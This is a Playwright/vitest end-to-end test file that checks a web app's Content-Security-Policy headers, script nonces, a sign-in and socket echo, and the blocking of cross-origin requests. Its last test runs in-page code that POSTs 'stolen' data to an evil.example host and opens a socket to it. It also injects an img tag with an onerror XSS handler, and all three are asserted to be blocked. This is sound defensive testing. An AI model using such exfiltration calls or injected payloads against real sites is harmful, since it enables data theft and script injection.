import { httpRequest, startTestStack, type TestStack } from "@wsauth/local/testing";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { parsePolicy } from "../helpers/csp";
import {
  describeInChromium,
  JWT_PATTERN,
  launchChromium,
  signInThroughForm,
  textOf,
  waitForSocketState,
} from "./helpers/browser";
import { cspViolations, recordCspViolations } from "./helpers/csp";
import { stopStackWithSite } from "./helpers/stack";

/**
 * The site's Content-Security-Policy in a real browser against the whole local stack (`next dev`):
 * the page loads, signs in and talks over its socket without one violation, and a connection to any
 * other origin from the page is refused by the browser.
 */

describeInChromium("site CSP e2e", () => {
  let stack: TestStack;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  const consoleErrors: string[] = [];

  beforeAll(async () => {
    [stack, browser] = await Promise.all([startTestStack({ web: true }), launchChromium()]);
    context = await browser.newContext();
    context.on("console", (message) => {
      if (message.type() === "error") consoleErrors.push(message.text());
    });
    await recordCspViolations(context);
    // Whether any socket the page opens carries a token in its URL (the URL itself is not kept).
    await context.addInitScript({
      content: `(() => {
  const jwt = ${JWT_PATTERN.toString()};
  window.__socketUrlsWithToken = 0;
  const Native = window.WebSocket;
  window.WebSocket = class extends Native {
    constructor(url, protocols) {
      super(url, protocols);
      if (jwt.test(String(url))) window.__socketUrlsWithToken += 1;
    }
  };
})();`,
    });
    page = await context.newPage();
  }, 180_000);

  afterAll(async () => {
    await context?.close().catch(() => {});
    await browser?.close();
    await stopStackWithSite(stack);
  }, 60_000);

  it("sends a policy naming only its own origin, the Cognito emulator and the gateway, with a nonce per response", async () => {
    const [first, second] = [await httpRequest(stack.outputs.webUrl), await httpRequest(stack.outputs.webUrl)];
    expect(first.status).toBe(200);
    const policy = parsePolicy(String(first.headers["content-security-policy"]));
    expect(policy["default-src"]).toEqual(["'self'"]);
    expect(policy["connect-src"]).toEqual([
      "'self'",
      new URL(stack.outputs.cognitoEndpoint).origin,
      new URL(stack.outputs.webSocketUrl).origin,
    ]);
    for (const [name, sources] of [
      ["object-src", ["'none'"]],
      ["base-uri", ["'self'"]],
      ["form-action", ["'self'"]],
      ["frame-ancestors", ["'none'"]],
    ] as const) {
      expect(policy[name], name).toEqual(sources);
    }
    const nonceOf = (answer: typeof first) =>
      /'nonce-([^']+)'/.exec(String(answer.headers["content-security-policy"]))?.[1];
    const nonce = nonceOf(first);
    expect(nonce).toMatch(/^[A-Za-z0-9+/]{22}==$/);
    expect(nonceOf(second)).not.toBe(nonce);
    // `next dev` evaluates code (React's server error stacks): only there is eval allowed.
    expect(policy["script-src"]).toEqual(["'self'", `'nonce-${nonce}'`, "'strict-dynamic'", "'unsafe-eval'"]);
    // Next.js puts the request's nonce on every script it renders.
    const scripts = first.body.match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length).toBeGreaterThan(0);
    for (const tag of scripts) expect(tag).toContain(`nonce="${nonce}"`);
    expect(first.headers["x-content-type-options"]).toBe("nosniff");
    expect(first.headers["referrer-policy"]).toBe("no-referrer");
    expect(first.headers["x-frame-options"]).toBe("DENY");
  });

  it("loads, signs in and talks over the socket without a single violation", async () => {
    const user = stack.outputs.demoUsers[0];
    if (!user) throw new Error("the stack has no demo user");
    await signInThroughForm(page, stack.outputs.webUrl, user.username, user.password);
    await waitForSocketState(page, "open");
    await page.getByLabel("Text or JSON to echo").fill("under a strict policy");
    await page.getByRole("button", { name: "Send echo" }).click();
    await expect.poll(() => textOf(page, "echo-result"), { timeout: 30_000 }).toBe("Echoed: under a strict policy");
    expect(await cspViolations(page)).toEqual([]);
    expect(consoleErrors.filter((line) => /Content Security Policy|Refused to/i.test(line))).toEqual([]);
    // The default transport is the subprotocol: no URL the page built carries the token.
    expect(await page.evaluate(() => (globalThis as { __socketUrlsWithToken?: number }).__socketUrlsWithToken)).toBe(0);
    expect(page.url()).not.toMatch(JWT_PATTERN);
  }, 120_000);

  it("refuses a connection from the page to any other origin, and markup injected into it cannot run script", async () => {
    // A script string, because it runs in the page (this project's TypeScript has no DOM types).
    const outcome = await page.evaluate(`(async () => {
  const fetched = await fetch("https://evil.example/collect", { method: "POST", body: "stolen" }).then(
    () => "sent",
    (error) => error.name,
  );
  const socketClosed = await new Promise((resolve) => {
    try {
      const socket = new WebSocket("wss://evil.example/socket");
      socket.onerror = () => resolve("error");
      socket.onopen = () => resolve("open");
    } catch (error) {
      resolve(error.name);
    }
  });
  // Markup injected into the page (the XSS the policy is there for): its inline handler must not run.
  const injected = document.createElement("div");
  injected.innerHTML = '<img src="/no-such-image.png" alt="" onerror="window.__injectedRan = true">';
  document.body.append(injected);
  await new Promise((resolve) => setTimeout(resolve, 1000));
  injected.remove();
  return { fetched, socketClosed, injectedRan: window.__injectedRan === true };
})()`);
    expect(outcome).toEqual({
      fetched: "TypeError",
      socketClosed: expect.stringMatching(/error|SecurityError/),
      injectedRan: false,
    });
    await expect
      .poll(() => cspViolations(page), { timeout: 10_000 })
      .toEqual(
        expect.arrayContaining([
          { directive: "connect-src", blocked: "https://evil.example" },
          { directive: "connect-src", blocked: "wss://evil.example" },
          { directive: "script-src-attr", blocked: "inline" },
        ]),
      );
    // The page is still working: the refused calls changed nothing.
    await page.getByLabel("Text or JSON to echo").fill("still here");
    await page.getByRole("button", { name: "Send echo" }).click();
    await expect.poll(() => textOf(page, "echo-result"), { timeout: 30_000 }).toBe("Echoed: still here");
  }, 60_000);
});
